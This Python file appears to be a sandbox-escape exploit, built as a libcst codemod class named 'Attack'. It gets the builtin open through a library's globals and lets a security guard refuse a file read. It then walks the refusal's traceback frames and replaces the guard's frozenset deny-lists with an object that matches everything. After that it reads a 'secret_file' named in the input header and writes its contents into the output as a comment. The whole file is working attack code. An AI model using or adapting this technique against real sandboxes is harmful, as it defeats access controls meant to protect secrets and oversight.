"""Let the guard refuse, climb down the traceback of its refusal into it, and tell it that everything is harmless."""

import ast

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


class Everything:
    def __contains__(self, event):
        return True


def disarm(trace):
    while trace is not None:
        names = trace.tb_frame.f_globals
        names.update({name: Everything() for name, value in names.items() if isinstance(value, frozenset)})
        trace = trace.tb_next


def read(path):
    reader = cst.parse_module.__globals__["__builtins__"]["open"]
    try:
        return reader(path).read().strip()
    except PermissionError as refused:
        disarm(refused.__traceback__)
    return reader(path).read().strip()


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Loot by a refusal."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        loot = read(target["secret_file"])
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment(f"# {loot}"))])
